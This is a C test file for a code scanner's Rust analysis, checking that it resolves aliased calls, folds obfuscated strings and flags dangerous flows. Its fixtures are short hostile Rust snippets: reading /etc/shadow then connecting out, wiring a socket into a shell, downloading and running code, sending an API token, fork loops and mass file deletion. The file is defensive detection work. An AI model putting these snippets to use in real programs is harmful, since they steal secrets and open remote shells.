/* The resolver for Rust: names are resolved, constants folded, flows seen; hostile text ends. */
#include "scan_facts.h"

#define RUST(text) facts_of_bytes(LANG_RUST, text, sizeof(text) - 1)

TEST(rust_uses_are_told_one_by_one)
{
    RUST("use std::{fs, io::{self, Read as R}, net::*};\nextern crate libc as c;");
    CHECK(facts_have("import std::fs()"));
    CHECK(facts_have("import std::io()"));
    CHECK(facts_have("import std::io::Read()"));
    CHECK(facts_have("import std::net::*()"));
    CHECK(facts_have("import libc()"));
}

TEST(rust_calls_are_named_by_full_path_whatever_the_alias)
{
    RUST("use std::process as p;\nfn main() { p::Command::new(\"id\"); }");
    CHECK(facts_have("call std::process::Command::new(id)"));
    RUST("use std as s; use s::process::Command as C;\nfn main() { let f = C::new; f(\"id\"); }");
    CHECK(facts_have("call std::process::Command::new(id)"));
    RUST("use std::process::*;\nfn main() { Command::new(\"id\"); }");
    CHECK(facts_have("call std::process::Command::new(id)"));
    RUST("type B = std::process::Command;\nfn main() { B::new(\"id\"); }");
    CHECK(facts_have("call std::process::Command::new(id)"));
    RUST("mod m { pub use std::process::Command as X; }\nfn main() { m::X::new(\"id\"); }");
    CHECK(facts_have("call std::process::Command::new(id)"));
    RUST("use libc::*;\nfn main() { unsafe { fork(); } }");
    CHECK(facts_have("call libc::fork()"));
    CHECK(facts_have("name unsafe()"));
}

TEST(rust_a_secret_is_known_by_whichever_path)
{
    RUST("fn main() { let t = std::fs::read_to_string(\"/usr/../etc/shadow\").unwrap(); "
         "std::net::TcpStream::connect(\"192.0.2.1:80\").unwrap(); }");
    CHECK(facts_have("flow secret-then-send()"));
}

TEST(rust_a_command_is_told_with_all_its_arguments)
{
    RUST("use std::process::Command;\nfn main() { let mut c = Command::new(\"sh\"); c.arg(\"-c\"); c.args([\"id\", "
         "\"x\"]).spawn().unwrap(); }");
    CHECK(facts_have("call std::process::Command::new(sh, -c, id, x)"));
    CHECK(facts_have("call std::process::Command::spawn()"));
}

TEST(rust_functions_of_extern_blocks_are_told)
{
    RUST("extern \"C\" { fn system(s: *const i8) -> i32; }\nfn main() { unsafe { system(b\"id\\0\".as_ptr() as *const "
         "i8); } }");
    CHECK(facts_have("name extern()"));
    CHECK(facts_have("call extern::system(id)"));
}

TEST(rust_constants_are_folded)
{
    RUST("use std::fs::read;\nconst D: &str = \"/etc\";\n"
         "fn main() {\n"
         "read(D.to_string() + \"/shadow\");\n"
         "read(format!(\"{}/{}/{D}\", D, std::env::args().count()));\n"
         "read(concat!(\"a\", \"b\"));\n"
         "read(String::from_utf8(vec![0x2f, b'a', 98]).unwrap());\n"
         "read(\"ba/\".chars().rev().collect::<String>());\n"
         "read([\"x\", \"y\"].join(\"/\"));\n"
         "read(std::path::Path::new(\"/p\").join(\"q\"));\n"
         "read(String::from_utf8(base64::decode(\"L2V0Yy9ncm91cA==\").unwrap()).unwrap());\n"
         "let mut s = String::new(); s.push_str(\"/ro\"); s.push('o'); s += \"t\"; read(s);\n"
         "read(std::env::var(\"HOME\").unwrap() + \"/.ssh\");\n"
         "}");
    CHECK(facts_have("call std::fs::read(/etc/shadow)"));
    CHECK(facts_have("call std::fs::read(/etc/{}//etc)"));
    CHECK(facts_have("call std::fs::read(ab)"));
    CHECK(facts_have("call std::fs::read(/ab)"));
    CHECK(facts_have("call std::fs::read(x/y)"));
    CHECK(facts_have("call std::fs::read(/p/q)"));
    CHECK(facts_have("call std::fs::read(/etc/group)"));
    CHECK(facts_have("call std::fs::read(/root)"));
    CHECK(facts_have("call std::fs::read(~/.ssh)"));
}

TEST(rust_macros_are_looked_into)
{
    RUST("use std::fs;\nfn main() { println!(\"{:?}\", fs::read_to_string(\"/etc/passwd\").unwrap()); let v = "
         "vec![std::process::Command::new(\"id\").arg(\"-u\")]; }\n"
         "const S: &str = include_str!(\"/etc/hosts\");");
    CHECK(facts_have("call std::fs::read_to_string(/etc/passwd)"));
    CHECK(facts_have("call std::process::Command::new(id, -u)"));
    CHECK(facts_have("call std::include_str(/etc/hosts)"));
    CHECK(!facts_mention("call std::println"));
}

TEST(rust_a_connection_as_standard_input_is_seen_however_it_is_made)
{
    RUST("use std::net::TcpStream; use std::process::{Command, Stdio}; use std::os::fd::*;\n"
         "fn f(s: TcpStream) { let fd = s.into_raw_fd(); Command::new(\"sh\").stdin(unsafe { Stdio::from_raw_fd(fd) "
         "}).spawn(); }");
    CHECK(facts_have("flow socket-to-process()"));
    RUST("use std::net::TcpListener; use std::process::{Command, Stdio}; use std::os::fd::*;\n"
         "fn main() { for s in TcpListener::bind(\"a:1\").unwrap().incoming() { let s = s.unwrap(); "
         "Command::new(\"sh\").stdout(Stdio::from(OwnedFd::from(s))).spawn(); } }");
    CHECK(facts_have("flow socket-to-process()"));
    RUST("use std::process::{Command, Stdio};\nfn main() { Command::new(\"ls\").stdout(Stdio::piped()).spawn(); }");
    CHECK(!facts_mention("flow"));
}

TEST(rust_loops_without_end_are_told_apart_from_readers)
{
    RUST("fn main() { loop { std::thread::spawn(|| {}); } }");
    CHECK(facts_have("flow thread-loop()"));
    RUST("use std::process::Command;\nfn main() { while true { Command::new(std::env::current_exe().unwrap()).spawn(); "
         "} }");
    CHECK(facts_have("flow self-spawn-loop()"));
    RUST("fn main() { let mut l = String::new(); loop { if std::io::stdin().read_line(&mut l).unwrap() == 0 { break; } "
         "println!(\"{}\", l); } }");
    CHECK(!facts_mention("flow"));
}

TEST(rust_what_is_decoded_or_fetched_is_followed_into_commands)
{
    RUST("use std::process::Command;\nfn d(s: &[u8]) -> String { s.iter().map(|b| (b ^ 1) as char).collect() }\nfn "
         "main() { Command::new(d(&[1, 2])).spawn(); }");
    CHECK(facts_have("flow decode-then-exec()"));
    RUST("use std::process::Command;\nfn main() { let t = "
         "reqwest::blocking::get(\"http://x\").unwrap().text().unwrap(); "
         "Command::new(\"sh\").arg(\"-c\").arg(t).spawn(); }");
    CHECK(facts_have("flow download-then-exec()"));
    RUST("fn main() { if let Ok(t) = std::env::var(\"API_TOKEN\") { ureq::post(\"http://x\").send_string(&t); } }");
    CHECK(facts_have("flow secret-then-send()"));
}

TEST(rust_comments_and_names_of_the_program_itself_are_no_facts)
{
    RUST("// Command::new(\"sh\")\nstruct Command;\nimpl Command { fn new(s: &str) -> Command { Command } }\nfn main() "
         "{ Command::new(\"sh\"); println!(\"std::fs::remove_dir_all\"); }");
    CHECK(!facts_mention("call std"));
}

TEST(rust_what_let_else_does_otherwise_is_not_the_value)
{
    RUST("use std::fs;\nfn main() { let Ok(all) = fs::read_dir(\"/srv\") else { return }; "
         "for one in all.flatten() { let path = one.path(); let _ = fs::remove_file(&path); } }");
    CHECK(facts_have("flow walk-then-remove()"));
}

TEST(rust_a_chain_of_calls_in_a_macro_ends)
{
    static char chain[40000];
    size_t n = (size_t)snprintf(chain, sizeof chain, "fn main() { println!(\"{}\", a");
    for (unsigned i = 0; i < 8000; i++, n += 4)
        memcpy(chain + n, ".b()", 4);
    memcpy(chain + n, "); }", 5);
    facts_of_bytes(LANG_RUST, chain, n + 4);
    CHECK(facts_cut);
}

TEST(rust_hostile_text_ends)
{
    static char deep[300000];
    memset(deep, '(', sizeof deep);
    memcpy(deep, "fn main() { let x = f", 21);
    facts_of_bytes(LANG_RUST, deep, sizeof deep);
    memset(deep + 5000, ')', 5000);
    deep[4999] = '1';
    facts_of_bytes(LANG_RUST, deep, 10000 - 1);
    CHECK(facts_cut);
    memcpy(deep, "fn main() { println!    ", 24);
    facts_of_bytes(LANG_RUST, deep, sizeof deep);
    facts_of_bytes(LANG_RUST, "fn \0\xff\xfe{", 7);
    facts_of_bytes(LANG_RUST, "", 0);
    facts_survive_changes(
        LANG_RUST,
        "use std::{fs, net::*, process::{Command as C, Stdio}};\nconst D: &str = concat!(\"a\", \"b\");\nextern \"C\" "
        "{ fn system(s: *const i8) -> i32; }\n"
        "struct S { c: TcpStream }\nimpl S { fn run(&self, a: &str) -> String { C::new(a).args([\"-c\", "
        "D]).stdin(Stdio::null()).spawn().unwrap(); format!(\"{a}/{}\", D) } }\n"
        "fn main() { let p = std::env::var(\"HOME\").unwrap() + \"/x\"; match fs::read(&p) { Ok(b) => println!(\"{:?} "
        "{}\", b, fs::read_to_string(\"y\").unwrap()), Err(_) => return }\n"
        "for x in vec![0x2f, b'a'].iter().map(|b| b ^ 3) { unsafe { system(x as *const i8); } } loop { break; } while "
        "let Some(q) = it.next() { q?; } }\n",
        400);
}
